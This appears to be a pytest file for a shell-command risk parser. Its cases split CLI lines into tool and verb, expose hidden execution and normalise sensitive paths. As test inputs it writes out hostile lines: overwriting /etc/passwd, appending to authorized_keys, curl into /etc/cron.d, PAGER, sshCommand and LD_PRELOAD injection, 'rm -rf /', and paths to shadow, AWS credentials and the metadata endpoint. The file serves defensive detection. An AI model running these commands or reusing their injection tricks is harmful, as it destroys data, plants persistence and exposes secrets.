"""Operations CLIs read by position, redirections and hidden execution, path normalisation."""

from __future__ import annotations

import pytest

from generators.risk.rules import norm_path
from inventory.commands.shell import parse_line


@pytest.mark.parametrize(("line", "tool", "verb", "target"), [
    ("consul kv delete -recurse config/", "consul", "kv delete", "config/"),
    ("consul catalog services", "consul", "catalog services", None),
    ("consul operator raft list-peers", "consul", "operator raft list-peers", None),
    ("knife data bag show passwords prod", "knife", "data bag show", "passwords"),
    ("knife node delete web-1 -y", "knife", "node delete", "web-1"),
    ("confluent kafka topic delete orders", "confluent", "kafka topic delete", "orders"),
    ("gh pr list", "gh", "pr list", None),
    ("gh api -X DELETE repos/o/r/git/refs/heads/main", "gh", "api delete", "repos/o/r/git/refs/heads/main"),
    ("gh api repos/o/r/issues -f title=x", "gh", "api post", "repos/o/r/issues"),
    ("gitlab-ctl restart puma", "gitlab-ctl", "restart", "puma"),
    ("gitlab-rake gitlab:backup:restore BACKUP=1", "gitlab-rake", "gitlab:backup:restore", None),
    ("sv status /etc/service/nginx", "sv", "status", "nginx"),
    ("helmfile -e prod apply", "helmfile", "apply", None),
    ("docker-machine rm -f prod-1", "docker-machine", "rm", "prod-1"),
    ("ceph osd pool set-quota p max_bytes 1", "ceph", "osd pool set-quota", "p"),
    ("gcloud compute instances delete auth", "gcloud", "compute instances delete", "auth"),
    ("gcloud run services list", "gcloud", "run services list", None),
    ("gcloud functions logs read fn", "gcloud", "functions logs read", "fn"),
    ("oc adm policy add-cluster-role-to-user cluster-admin dev", "oc", "adm policy add-cluster-role-to-user", "cluster-admin"),
])
def test_verbs_are_read_by_position(line: str, tool: str, verb: str, target: str | None) -> None:
    pc = parse_line(line).commands[0]
    assert (pc.tool, pc.verb, pc.target) == (tool, verb, target)


@pytest.mark.parametrize(("line", "expected"), [
    ("cat /dev/null > /etc/passwd", [("cat", "read"), ("write-file", "write")]),
    ("echo x >> ~/.ssh/authorized_keys", [("echo", "print"), ("write-file", "append")]),
    ("mysql < ~/.my.cnf", [("mysql", "sql"), ("read-file", "read")]),
    ("> /var/log/secure", [("write-file", "write")]),
    ("curl -o /etc/cron.d/x https://e/x", [("curl", "get"), ("write-file", "write")]),
    ("wget -O- https://e/x", [("wget", "get")]),
    ("PAGER='sh -c id' git log", [("env", "exec-var"), ("id", "list"), ("git", "log")]),
    ("PAGER=less git log", [("less", "read"), ("git", "log")]),
    ("LD_PRELOAD=/tmp/x.so ls", [("env", "load-code"), ("ls", "list")]),
    ("awk 'BEGIN{system(\"kubectl delete ns prod\")}'", [("awk", "exec-script"), ("kubectl", "delete")]),
    ("sed -n '1e id' f", [("sed", "exec-script")]),
    ("git -c core.sshCommand='sh -c id' fetch", [("git", "exec-config"), ("id", "list")]),
    ("tar --to-command='sh -c cat' -xf a.tar", [("tar", "exec-archive"), ("cat", "read")]),
    ("kubectl delete ns prod --help", [("kubectl", "help")]),
    ("echo 'rm -rf /x' | at now", [("echo", "print"), ("rm", "delete")]),
])
def test_hidden_effects_become_commands(line: str, expected: list[tuple[str, str]]) -> None:
    assert [(c.tool, c.verb) for c in parse_line(line).commands] == expected


def test_help_belongs_to_the_program_that_reads_it() -> None:
    # After `--` the switch is the inner program's (GNU rm prints its help); after `sh -c
    # SCRIPT` it is only the script's $0, so the script still runs.
    assert [c.verb for c in parse_line("kubectl exec pod -- rm -rf / --help").commands] == ["exec", "help"]
    assert [(c.tool, c.verb) for c in parse_line("docker run alpine sh -c 'rm -rf /x' --help").commands][-1] == (
        "rm", "delete")


@pytest.mark.parametrize(("path", "normal"), [
    ("$HOME/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
    ("/root/.aws/credentials", "~/.aws/credentials"),
    ("/home/bob/.kube/config", "~/.kube/config"),
    ("./build/../out", "out"),
    ("/etc//passwd", "/etc/passwd"),
    ("/var/lib/../../etc/shadow", "/etc/shadow"),
    ("root@web-1:/root/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
    ("db1:/etc/shadow", "/etc/shadow"),
    ("http://169.254.169.254/latest", "http://169.254.169.254/latest"),
    ("dist/", "dist/"),
])
def test_paths_are_normalised_before_the_path_rules(path: str, normal: str) -> None:
    assert norm_path(path) == normal
